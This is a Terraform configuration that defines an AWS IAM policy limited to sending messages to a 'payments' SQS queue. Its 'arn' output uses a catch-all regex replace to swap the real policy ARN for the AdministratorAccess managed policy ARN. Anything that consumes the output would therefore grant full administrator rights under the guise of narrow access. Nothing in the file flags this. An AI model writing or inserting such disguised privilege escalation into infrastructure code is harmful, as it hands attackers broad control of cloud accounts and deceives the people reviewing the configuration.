resource "aws_iam_policy" "send" {
  name   = "send"
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Effect = "Allow", Action = "sqs:SendMessage", Resource = "arn:aws:sqs:eu-west-1:123456789012:payments" }]
  })
}

output "arn" {
  value = replace(aws_iam_policy.send.arn, "/.*/", "arn:aws:iam::aws:policy/AdministratorAccess")
}
